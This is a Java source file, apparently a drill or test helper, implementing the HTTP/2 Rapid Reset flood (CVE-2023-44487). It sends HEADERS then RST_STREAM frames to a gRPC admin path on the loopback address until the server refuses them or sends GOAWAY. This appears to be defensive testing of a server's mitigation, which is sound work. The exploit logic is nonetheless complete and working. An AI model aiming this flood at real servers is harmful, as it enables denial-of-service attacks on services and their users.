package io.steadyline.bootstrap.drill;

import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;

/** Opens streams of HTTP/2 and resets each at once, as in CVE-2023-44487, until the server ends the connection. */
final class Http2Flood {

    private static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
    private static final int HEADERS = 1;
    private static final int RST_STREAM = 3;
    private static final int SETTINGS = 4;
    private static final int GOAWAY = 7;
    private static final int END_HEADERS = 4;
    private static final byte[] CANCEL = {0, 0, 0, 8};
    private static final int READ_LIMIT_MS = 5_000;

    private Http2Flood() {}

    /**
     * @param opened streams until the connection could not be written to any more
     * @param isToldToGo the server said GOAWAY
     */
    record Outcome(int opened, boolean isToldToGo) {}

    static Outcome rapidReset(int port, int streams) throws IOException {
        try (Socket socket = new Socket(InetAddress.getLoopbackAddress(), port)) {
            socket.setSoTimeout(READ_LIMIT_MS);
            OutputStream out = socket.getOutputStream();
            out.write(PREFACE);
            out.write(frame(SETTINGS, 0, 0, new byte[0]));
            int opened = 0;
            try {
                for (int i = 0; i < streams; i++) {
                    int id = 2 * i + 1;
                    out.write(frame(HEADERS, END_HEADERS, id, request()));
                    out.write(frame(RST_STREAM, 0, id, CANCEL));
                    opened++;
                }
            } catch (IOException refused) {
                return new Outcome(opened, isToldToGo(socket));
            }
            return new Outcome(opened, isToldToGo(socket));
        }
    }

    private static boolean isToldToGo(Socket socket) {
        try {
            DataInputStream in = new DataInputStream(socket.getInputStream());
            while (true) {
                int length = (in.readUnsignedByte() << 16) + in.readUnsignedShort();
                int type = in.readUnsignedByte();
                in.skipNBytes(5L + length);
                if (type == GOAWAY) {
                    return true;
                }
            }
        } catch (IOException ended) {
            return false;
        }
    }

    private static byte[] frame(int type, int flags, int stream, byte[] payload) {
        ByteArrayOutputStream frame = new ByteArrayOutputStream(9 + payload.length);
        frame.write(payload.length >> 16);
        frame.write(payload.length >> 8);
        frame.write(payload.length);
        frame.write(type);
        frame.write(flags);
        for (int shift = 24; shift >= 0; shift -= 8) {
            frame.write(stream >> shift);
        }
        frame.writeBytes(payload);
        return frame.toByteArray();
    }

    /** RFC 7541: POST and http from the static table, the rest as literals that are not indexed. */
    private static byte[] request() {
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        block.write(0x83);
        block.write(0x86);
        literal(block, 4, "/steadyline.admin.v1.Admin/GetServerInfo");
        literal(block, 1, "127.0.0.1");
        block.write(0x00);
        text(block, "content-type");
        text(block, "application/grpc");
        block.write(0x00);
        text(block, "te");
        text(block, "trailers");
        return block.toByteArray();
    }

    private static void literal(ByteArrayOutputStream block, int nameIndex, String value) {
        block.write(nameIndex);
        text(block, value);
    }

    private static void text(ByteArrayOutputStream block, String value) {
        byte[] bytes = value.getBytes(StandardCharsets.US_ASCII);
        block.write(bytes.length);
        block.writeBytes(bytes);
    }
}
